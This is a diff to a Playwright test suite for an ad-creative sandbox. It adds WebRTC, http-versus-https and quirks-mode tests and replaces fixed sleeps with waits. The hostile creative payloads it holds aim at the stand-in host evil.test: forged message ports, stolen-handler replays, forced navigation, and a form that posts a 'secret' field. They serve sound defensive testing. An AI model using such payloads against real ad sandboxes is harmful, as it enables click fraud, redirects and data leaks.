@@ -1,11 +1,12 @@
 """The walls around a creative: whatever a hostile one tries, it keeps nothing, asks nothing and leads nowhere."""
 
+import json
+
 import pytest
-from ads_stage import VIEW, answer
+from ads_stage import VIEW, answer, until
 from playwright.sync_api import expect
 
 EVIL = "https://evil.test"
-ENOUGH = 900
 
 
 @pytest.fixture
@@ -32,10 +33,6 @@ def hostile(ad, context):
     return run
 
 
-def settle(page, milliseconds=ENOUGH):
-    page.page.evaluate("time => new Promise(done => setTimeout(done, time))", milliseconds)
-
-
 def inside(page):
     """The creative's own frame, to look into it."""
     return page.page.locator("iframe[data-ad-frame]").element_handle().content_frame()
@@ -54,7 +51,7 @@ def test_no_dialog_comes_up(hostile):
         "<script>window.said = [alert('a'), confirm('b'), prompt('c')]; print();"
         "addEventListener('beforeunload', event => event.preventDefault());</script>"
     )
-    settle(page)
+    page.settle()
     assert inside(page).evaluate("() => said") == [None, False, None]
     stays(page)
 
@@ -109,7 +106,6 @@ ELSEWHERE = {
     "fullscreen": "<script>document.documentElement.requestFullscreen().catch(() => {})</script>",
     "plugin": f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x.pdf'><applet code='{EVIL}/x'></applet>",
     "worker": f"<script>try {{ new Worker('{EVIL}/w.js') }} catch {{}}</script>",
-    "plain-http": "<img src='http://evil.test/a.png'><script src='http://evil.test/a.js'></script>",
     "forged-line": f"""<script>
       const {{ port1, port2 }} = new MessageChannel();
       parent.postMessage({{ inlayAd: 'line' }}, '*', [port2]);
@@ -134,7 +130,7 @@ def test_a_creative_that_leads_its_frame_away_by_itself_is_taken_away(hostile, w
 @pytest.mark.parametrize("way", ELSEWHERE)
 def test_a_creative_leads_nobody_elsewhere_by_itself(hostile, way):
     page = hostile(ELSEWHERE[way])
-    settle(page)
+    page.settle()
     expect(page.frame.locator("#mark")).to_be_visible()
     stays(page)
     assert not [url for url in page.asked if "evil.test" in url]
@@ -142,9 +138,12 @@ def test_a_creative_leads_nobody_elsewhere_by_itself(hostile, way):
 
 def test_a_tap_that_moves_the_frame_brings_the_creative_back(hostile):
     page = hostile(f"<button id=go onclick=\"location = '{EVIL}/'\">Go</button>")
+    page.page.evaluate("() => { document.querySelector('iframe[data-ad-frame]').isFirst = true }")
     page.frame.locator("#go").click()
-    settle(page, 2500)
+    # It is shown anew, in another frame.
+    page.page.wait_for_function("() => !document.querySelector('iframe[data-ad-frame]').isFirst")
     expect(page.frame.locator("#mark")).to_be_visible()
+    page.settle()
     stays(page)
     assert page.stage.called(VIEW) == [VIEW]
 
@@ -154,16 +153,17 @@ def test_a_tapped_link_goes_to_the_browser_and_never_anywhere_else(hostile, targ
     page = hostile(f"<a id=go {target} href='{EVIL}/offer'>Go</a>")
     page.frame.locator("#go").click()
     page.stage.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
-    settle(page, 300)
+    page.settle()
     expect(page.frame.locator("#mark")).to_be_visible()
     assert page.page.url == page.stage.surface and len(page.page.context.pages) == 1
     assert page.asked == []
 
 
 def test_a_tap_is_good_for_one_second(hostile):
-    page = hostile(f"<button id=go onclick=\"setTimeout(() => window.open('{EVIL}/late'), 1600)\">Go</button>")
+    page = hostile(f"<button id=go onclick=\"setTimeout(() => {{ window.open('{EVIL}/late'); window.tried = true }}, 1600)\">Go</button>")
     page.frame.locator("#go").click()
-    settle(page, 2500)
+    inside(page).wait_for_function("() => window.tried")
+    page.settle()
     stays(page)
 
 
@@ -172,7 +172,7 @@ def test_a_tap_is_good_for_one_second(hostile):
 def test_a_tap_opens_nothing_but_the_web(hostile, address):
     page = hostile(f"<a id=go href='{address}'>Go</a>")
     page.frame.locator("#go").click()
-    settle(page)
+    page.settle()
     expect(page.frame.locator("#mark")).to_be_visible()
     stays(page)
 
@@ -180,7 +180,7 @@ def test_a_tap_opens_nothing_but_the_web(hostile, address):
 def test_a_form_that_a_user_sends_goes_nowhere(hostile):
     page = hostile(f"<form action='{EVIL}/' method=post><input name=a value=secret><button id=go>Send</button></form>")
     page.frame.locator("#go").click()
-    settle(page)
+    page.settle()
     expect(page.frame.locator("#mark")).to_be_visible()
     stays(page)
 
@@ -212,6 +212,97 @@ def test_no_power_of_the_device_is_granted(hostile, context):
     stays(page)
 
 
+# Each makes a frame with this script, in one of the ways in which a creative can. The script tells what it finds.
+TELLS = "<script>parent.postMessage({ way: 'WAY', peers: Object.getOwnPropertyNames(self).filter(name => /RTC/.test(name)) }, '*')</script>"
+INNER = {
+    "property": "const f = document.createElement('iframe'); f.srcdoc = markup; document.body.append(f)",
+    "attribute": "const f = document.createElement('iframe'); document.body.append(f); f.setAttribute('srcdoc', markup)",
+    "markup": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<p><iframe srcdoc=\"${quoted}\"></iframe>`",
+    "sandboxed": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = markup; document.body.append(f)",
+    "clone": "const f = document.createElement('iframe'); f.srcdoc = markup; document.body.append(f.cloneNode())",
+    "open-shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'open' }).innerHTML = `<iframe srcdoc=\"${quoted}\"></iframe>`",
+    "closed-shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = `<iframe srcdoc=\"${quoted}\"></iframe>`",
+    "declared-shadow": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(`<div><template shadowrootmode=open><iframe srcdoc=\"${quoted}\"></iframe></template></div>`)",
+    "parser": None,
+    "frame-in-frame": None,
+}
+
+
+def framed(markup):
+    quoted = markup.replace("&", "&amp;").replace('"', "&quot;")
+    return f'<iframe srcdoc="{quoted}"></iframe>'
+
+
+def test_no_peer_connection_can_be_opened_in_a_creative_or_its_frames(hostile):
+    ways = "".join(f"{{ const way = '{way}', markup = tells.replace('WAY', way), quoted = markup; {make} }}\n"
+                   for way, make in INNER.items() if make)
+    nested = framed(framed(TELLS.replace("WAY", "frame-in-frame").replace("parent.", "parent.parent.")))
+    # The end of a script within a script is written so that the outer one goes on.
+    tells = json.dumps(TELLS).replace("</script>", "<\\/script>")
+    page = hostile(f"""<script>
+        window.heard = {{}};
+        addEventListener('message', event => {{ if (event.data?.way) heard[event.data.way] = event.data.peers }});
+      </script>{framed(TELLS.replace('WAY', 'parser'))}{nested}<script>const tells = {tells};
+      addEventListener('load', () => {{ {ways} }});</script>""")
+    frame = inside(page)
+    assert frame.evaluate("() => Object.getOwnPropertyNames(self).filter(name => /RTC/.test(name))") == []
+    assert frame.evaluate("() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof RTCDataChannel]") == ["undefined"] * 3
+    frame.wait_for_function(f"() => Object.keys(heard).length === {len(INNER)}")
+    assert frame.evaluate("() => heard") == {way: [] for way in INNER}
+    # A frame without markup belongs to nobody: the creative reaches nothing in it.
+    assert frame.evaluate("""() => {
+      const blank = document.createElement('iframe');
+      document.body.append(blank);
+      try { return typeof blank.contentWindow.RTCPeerConnection } catch { return 'out of reach' }
+    }""") == "out of reach"
+    stays(page)
+
+
+# http and https alike: what a creative loads, and what the creative's frames load.
+LOADS = """<img src="SCHEME://cdn.test/a.png"><script src="SCHEME://cdn.test/a.js"></script>
+  <style>p { background: url(SCHEME://cdn.test/b.png) }</style><iframe src="SCHEME://cdn.test/frame.html"></iframe>
+  <iframe srcdoc="<img src=SCHEME://cdn.test/inner.png>"></iframe>
+  <script>fetch('SCHEME://cdn.test/fetched').catch(() => {}); fetch(new Request('SCHEME://cdn.test/request')).catch(() => {});
+    const asks = new XMLHttpRequest(); asks.open('GET', 'SCHEME://cdn.test/asked'); asks.send(); new Image().src = 'SCHEME://cdn.test/pixel?x=1';
+    navigator.sendBeacon('SCHEME://cdn.test/beacon', 'x')</script>"""
+
+
+def test_a_creative_with_http_makes_the_same_calls_as_one_with_https(hostile):
+    wanted = {"a.png", "a.js", "b.png", "frame.html", "inner.png", "fetched", "request", "asked", "pixel?x=1", "beacon"}
+    page = hostile("", show=False)
+    called = {}
+    for scheme in ("https", "http"):
+        page.asked.clear()
+        page.show(answer(f"<p id=mark>Creative</p>{LOADS.replace('SCHEME', scheme)}", width=320, height=250))
+        page.stage.event("shown")
+        until(page.page, lambda: len(page.asked) >= len(wanted))
+        page.settle()
+        called[scheme] = sorted(page.asked)
+        page.close.click()
+        expect(page.box).to_have_count(0)
+    assert {url.removeprefix("https://cdn.test/") for url in called["https"]} == wanted
+    assert called["http"] == called["https"]
+
+
+@pytest.mark.parametrize("markup, mode", [
+    ("<div id=tall style='height:100%'>x</div>", "BackCompat"),
+    ("<html><body><div id=tall style='height:100%'>x</div></body></html>", "BackCompat"),
+    ("<!doctype html><div id=tall style='height:100%'>x</div>", "CSS1Compat"),
+    ("\n<!-- made by a tool -->\n<!DOCTYPE HTML><html><div id=tall style='height:100%'>x</div></html>", "CSS1Compat"),
+    ('<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><div id=tall style="height:100%">x</div>', "BackCompat"),
+])
+def test_a_creative_is_laid_out_by_the_rules_that_its_markup_asks_for(hostile, markup, mode):
+    page = hostile("", show=False)
+    page.show(answer(markup, width=320, height=250))
+    frame = inside(page)
+    frame.wait_for_selector("#tall")
+    assert frame.evaluate("() => document.compatMode") == mode
+    height = frame.evaluate("() => tall.getBoundingClientRect().height")
+    assert height == 250 if mode == "BackCompat" else height < 50
+    # The walls stand in either mode.
+    assert frame.evaluate("() => [self.origin, typeof RTCPeerConnection]") == ["null", "undefined"]
+
+
 def test_the_app_s_page_is_out_of_reach(hostile):
     page = hostile("")
     reached = inside(page).evaluate(
@@ -227,7 +318,7 @@ def test_the_app_s_page_is_out_of_reach(hostile):
 
 def test_pictures_and_scripts_of_the_creative_load_over_https(hostile):
     page = hostile("<img src='https://cdn.test/a.png'><script src='https://cdn.test/a.js'></script><style>p { background: url(https://cdn.test/b.png) }</style>")
-    settle(page)
+    until(page.page, lambda: len(page.asked) >= 3)
     assert {"https://cdn.test/a.png", "https://cdn.test/a.js", "https://cdn.test/b.png"} <= set(page.asked)
 
 
@@ -253,8 +344,9 @@ def test_no_change_of_its_realm_gives_a_creative_the_voice_of_its_user(hostile):
     page = hostile(f"<script>{STOLEN} window.stolen = stolen; setTimeout(() => {{ document.open(); document.write('<p id=mark>Anew</p><button id=go>Go</button>'); document.close(); }}, 200);</script>")
     expect(page.frame.locator("#mark")).to_have_text("Anew")
     # The page asks whether it is still there, and a person touches it without meaning a link.
-    settle(page, 1500)
+    page.ask_whether_there()
     page.frame.locator("#go").click()
+    page.page.evaluate("() => { window.tappedAt = performance.now() }")
     forged = inside(page).evaluate(f"""() => {{
       for (const thing of stolen) {{
         try {{ if (thing instanceof MessagePort) {{ thing.postMessage({{ tap: true }}); thing.postMessage({{ open: '{EVIL}/' }}); }} }} catch {{}}
@@ -264,12 +356,13 @@ def test_no_change_of_its_realm_gives_a_creative_the_voice_of_its_user(hostile):
       return stolen.filter(thing => thing instanceof MessagePort).length;
     }}""")
     assert forged == 0
-    settle(page, 1200)
+    page.settle()
     # Its own link after a real touch is its right; nothing that was stolen adds another one.
     assert set(page.stage.opened()) <= {f"{EVIL}/later"}
-    settle(page, 1200)
+    # The tap is over.
+    page.page.wait_for_function("() => performance.now() - tappedAt > 1500")
     inside(page).evaluate(f"() => {{ for (const thing of stolen) {{ try {{ thing({{ isTrusted: true, type: 'pointerup' }}) }} catch {{}} }} window.open('{EVIL}/forged') }}")
-    settle(page)
+    page.settle()
     assert f"{EVIL}/forged" not in page.stage.opened()
 
 
@@ -277,7 +370,7 @@ def test_a_creative_that_writes_itself_anew_is_still_the_creative(hostile):
     later = f"<script>setTimeout(() => {{ document.open(); document.write('<p id=mark>Anew</p><a id=go href=\"{EVIL}/offer\">Go</a>'); document.close(); }}, 200)</script>"
     page = hostile(later)
     expect(page.frame.locator("#mark")).to_have_text("Anew")
-    settle(page, 2000)
+    page.ask_whether_there()
     page.frame.locator("#go").click()
     page.stage.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
     expect(page.frame.locator("#mark")).to_have_text("Anew")
